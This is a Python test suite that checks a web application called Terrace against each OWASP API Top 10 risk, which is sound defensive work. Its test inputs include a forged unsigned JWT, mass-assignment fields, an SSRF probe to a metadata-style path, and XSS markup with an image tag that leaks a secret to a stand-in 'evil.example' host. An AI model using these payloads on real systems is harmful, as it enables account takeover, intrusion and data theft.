"""The OWASP API Security Top 10 (2023), one test each, against a whole Terrace.

The isolation suite visits every route; here each risk is tried as somebody who means harm would try it first.
"""

import asyncio
import base64
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest

from terrace.settings import Settings
from tests.web.conftest import Client, served
from tests.web.people import PASSWORD, Person, invited, register, tenant


@asynccontextmanager
async def upstream(answer: bytes) -> AsyncIterator[str]:
    """A model server that says one thing to everybody, and its address."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(answer)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/v1"


@pytest.fixture
async def owner(client: Client) -> Person:
    return await register(client, "Ada")


def forged(token: str, **claims: Any) -> str:
    """The same token with other claims and no signature at all."""

    def part(value: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    body = token.split(".")[1]
    told = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    return f"{part({'alg': 'none', 'typ': 'JWT'})}.{part({**told, **claims})}."


async def test_api1_broken_object_level_authorization(owner: Person) -> None:
    """Somebody else's id answers as if there were nothing, to read, to change and to delete."""
    stranger = await tenant(owner, "globex", "Eve")
    document = (await owner.upload("plan.txt", b"The plan is secret."))["document"]["id"]
    asked = (await owner.post("/api/chat", {"message": "What is the plan?"})).json()
    made = (await owner.post("/api/keys", {"name": "mine"})).json()["key"]["id"]
    for path in (
        f"/api/documents/{document}",
        f"/api/documents/{document}/original",
        f"/api/conversations/{asked['conversation_id']}",
        f"/api/jobs/{asked['job_id']}",
        f"/api/keys/{made}",
        f"/api/users/{owner.id}",
    ):
        assert (await stranger.get(path)).status_code == 404, path
        assert (await stranger.delete(path)).status_code in (404, 405), path
        assert (await owner.get(path)).status_code == 200, path


async def test_api2_broken_authentication(owner: Person, client: Client) -> None:
    """Forged, unsigned and worn-out tokens are nobody's; guessing passwords soon gets slow."""
    for bad in (forged(owner.access), forged(owner.access, sub="usr_x"), owner.access[:-4] + "AAAA", owner.refresh):
        answer = await client.get("/api/auth/sessions", headers={"authorization": f"Bearer {bad}"})
        assert answer.status_code == 401, bad
        assert answer.headers["www-authenticate"].startswith("Bearer")
    refreshed = await client.post("/api/auth/refresh", json={"refresh_token": owner.refresh})
    assert refreshed.status_code == 200
    again = await client.post("/api/auth/refresh", json={"refresh_token": owner.refresh})
    assert again.status_code == 401  # stolen, or used by the thief: the family ends
    newest = refreshed.json()["access_token"]
    assert (await client.get("/api/keys", headers={"authorization": f"Bearer {newest}"})).status_code == 401
    wrong = {"email": owner.email, "password": "not the one at all"}
    statuses = [(await client.post("/api/auth/login", json=wrong)).status_code for _ in range(12)]
    assert statuses[0] == 401
    assert statuses[-1] == 429


async def test_api3_broken_object_property_level_authorization(owner: Person, client: Client) -> None:
    """Properties nobody may set are not set because they are sent, and secrets are in no answer."""
    sent = {"name": "Mal", "email": "mal@example.org", "password": PASSWORD, "login": True}
    more = {"role": "owner", "id": "usr_chosen", "tenant_id": "default", "disabled": False, "operator": True}
    made = (await client.post("/api/users", json={**sent, **more})).json()
    assert made["role"] == "member"
    assert made["user"]["id"] != "usr_chosen"
    mal = {"authorization": f"Bearer {made['access_token']}"}
    await client.patch(f"/api/users/{made['user']['id']}", json={"name": "Mal", "role": "owner"}, headers=mal)
    session = (await client.get("/api/auth/session", headers=mal)).json()
    assert session["role"] == "member"
    assert not session["operator"]
    secret = (await owner.post("/api/keys", {"name": "mine"})).json()["secret"]
    for path in ("/api/keys?all=true", "/api/members", "/api/audit", f"/api/users/{owner.id}", "/api/auth/sessions"):
        text = (await owner.get(path)).text
        assert "_hash" not in text  # the end of a column's name; an id may hold the word
        assert secret not in text
        assert "argon2" not in text


async def test_api4_unrestricted_resource_consumption(owner: Person, client: Client) -> None:
    """Every input has a bound, and a limit on requests holds."""
    made = (await owner.post("/api/keys", {"name": "few"})).json()
    put = await owner.put(f"/api/limits/key:{made['key']['id']}", {"requests_per_minute": 3})
    assert put.status_code == 200, put.text
    key = {"authorization": f"Bearer {made['secret']}"}
    answers = [await client.post("/api/search", json={"query": "x"}, headers=key) for _ in range(5)]
    assert [answer.status_code for answer in answers] == [200, 200, 200, 429, 429]
    refused = answers[-1]
    assert refused.json()["limit"] == "requests_per_minute"
    assert 0 < int(refused.headers["retry-after"]) <= 60
    assert "requests_per_minute" in refused.headers["ratelimit-policy"]
    assert (await owner.post("/api/chat", {"message": "x" * 150_000})).status_code in (413, 422)
    assert (
        await owner.post("/api/users", {"name": "x" * 10_000, "email": "a@b.c", "password": "y"})
    ).status_code == 422
    assert (await owner.get("/api/documents?limit=100000")).status_code == 422


async def test_api5_broken_function_level_authorization(owner: Person) -> None:
    """A member finds no administrative door open, by whatever method."""
    member = await invited(owner, "Bob", "member")
    for method, path, body in (
        ("GET", "/api/members", None),
        ("GET", "/api/audit", None),
        ("GET", "/api/tenants", None),
        ("GET", "/metrics", None),
        ("POST", "/api/tenants", {"name": "mine"}),
        ("POST", "/api/invitations", {"role": "owner"}),
        ("PUT", "/api/limits/tenant", {"requests_per_minute": 1_000_000}),
        ("PUT", "/api/prices/openai/gpt-4o", {"input": 0, "output": 0}),
        ("PATCH", f"/api/members/{member.id}", {"role": "owner"}),
        ("GET", "/api/tenant/export", None),
    ):
        answer = await member.request(method, path, json=body)
        assert answer.status_code == 403, (method, path, answer.text)
    answer = await member.request(
        "GET", "/api/audit", headers={"x-http-method-override": "POST", "x-user-id": owner.id}
    )
    assert answer.status_code == 403


async def test_api6_unrestricted_access_to_sensitive_business_flows(settings: Settings) -> None:
    """Where registration is by invitation, no number of tries makes an account, and an invitation works once."""
    closed = settings.model_copy(update={"accounts": settings.accounts.model_copy(update={"registration": "invite"})})
    async with served(closed) as client:
        owner = await register(client, "Ada")
        bot = {"name": "Bot", "email": "bot@example.org", "password": PASSWORD}
        assert {(await client.post("/api/users", json=bot)).status_code for _ in range(5)} == {403}
        token = (await owner.post("/api/invitations", {"role": "member"})).json()["token"]
        assert (await client.post("/api/users", json={**bot, "invitation": token})).status_code == 201
        second = {**bot, "email": "bot2@example.org", "invitation": token}
        assert (await client.post("/api/users", json=second)).status_code in (403, 404)


async def test_api7_server_side_request_forgery(owner: Person) -> None:
    """Nothing a caller sends makes the server fetch an address: an image in a question is not looked up."""
    asked: list[bytes] = []

    async def seen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.readline())
        writer.close()

    trap = await asyncio.start_server(seen, "127.0.0.1", 0)
    url = f"http://127.0.0.1:{trap.sockets[0].getsockname()[1]}/latest/meta-data"
    async with trap:
        content = [{"type": "text", "text": "What is this?"}, {"type": "image_url", "image_url": {"url": url}}]
        await owner.post("/v1/chat/completions", {"model": "auto", "messages": [{"role": "user", "content": content}]})
        await owner.post("/api/chat", {"message": f"Read {url} ![x]({url})"})
        await owner.upload("page.html", f'<img src="{url}"><link rel=stylesheet href="{url}">words'.encode())
        await owner.post("/api/jobs", {"kind": "models.pull", "payload": {"model": url}})
        await asyncio.sleep(0.3)
    assert asked == []


async def test_api8_security_misconfiguration(owner: Person, client: Client) -> None:
    """Headers are set, errors tell nothing of the inside, other sites' pages get nowhere, methods are refused."""
    page = await client.get("/", headers={"accept": "text/html"})
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["x-frame-options"] == "DENY"
    assert "server" not in page.headers
    broken = await client.post("/api/auth/login", content=b'{"email": ', headers={"content-type": "application/json"})
    assert broken.status_code == 400
    assert "Traceback" not in broken.text
    foreign = await client.post("/api/auth/login", json={}, headers={"origin": "https://evil.example"})
    assert foreign.status_code == 403
    assert (await client.request("TRACE", "/api/documents")).status_code == 405
    cookies = await client.post("/api/auth/login", json={"email": owner.email, "password": PASSWORD, "cookie": True})
    for line in cookies.headers.get_list("set-cookie"):
        assert "samesite" in line.lower()
        assert "httponly" in line.lower() or line.startswith("terrace_csrf")
    jar = dict(cookies.cookies.items())
    client.cookies.clear()
    bare = "; ".join(f"{name}={value}" for name, value in jar.items())
    unsafe = await client.post("/api/keys", json={"name": "x"}, headers={"cookie": bare})
    assert (unsafe.status_code, unsafe.json()["code"]) == (403, "csrf")
    token = {"cookie": bare, "x-csrf-token": cookies.json()["csrf"]}
    assert (await client.post("/api/keys", json={"name": "x"}, headers=token)).status_code == 201


async def test_api9_improper_inventory_management(client: Client, settings: Settings) -> None:
    """The description lists every route there is, and can be turned off."""
    told = set((await client.get("/openapi.json")).json()["paths"])
    assert {"/api/users", "/api/keys", "/api/tenants/{tenant_id}", "/api/audit"} <= told
    for old in ("/api/v1/users", "/api/admin", "/api/debug", "/admin", "/.env", "/v1/internal", "/api/users/"):
        assert (await client.get(old)).status_code in (404, 401), old
    quiet = settings.model_copy(
        update={"web": settings.web.model_copy(update={"docs": False}), "data": settings.data / "quiet"}
    )
    async with served(quiet) as other:
        for path in ("/docs", "/openapi.json", "/redoc"):
            assert (await other.get(path)).status_code == 404


async def test_api10_unsafe_consumption_of_apis(settings: Settings) -> None:
    """What a model server answers is data: a redirect is not followed, a flood is cut, markup is not run."""
    elsewhere: list[bytes] = []

    async def seen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        elsewhere.append(await reader.readline())
        writer.close()

    trap = await asyncio.start_server(seen, "127.0.0.1", 0)
    port = trap.sockets[0].getsockname()[1]
    moved = f"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{port}/\r\nContent-Length: 0\r\n\r\n".encode()
    evil = '<script>alert(1)</script> <img src="https://evil.example/?q=secret"> ![x](https://evil.example/x.png)'
    choice = {"index": 0, "delta": {"content": evil}, "finish_reason": "stop"}
    event = b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\ndata: [DONE]\n\n"
    stream = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n" + event
    async with trap, upstream(moved) as away, upstream(stream) as hostile:
        providers = {
            "away": {"kind": "openai", "base_url": away, "models": ("m",)},
            "hostile": {"kind": "openai", "base_url": hostile, "models": ("m",)},
        }
        models = {"discover": False, "providers": providers, "retries": 0}
        async with served(Settings(**{**settings.model_dump(), "models": models})) as client:
            owner = await register(client, "Ada")
            body = {"model": "away/m", "messages": [{"role": "user", "content": "hello"}]}
            assert (await owner.post("/v1/chat/completions", body)).status_code >= 400
            assert elsewhere == []
            answer = (await owner.post("/api/chat", {"message": "hello", "model": "hostile/m"})).json()
            kept = (await owner.get(f"/api/conversations/{answer['conversation_id']}")).json()
            html = kept["messages"][-1]["html"]
            assert "<script" not in html
            assert "<img" not in html
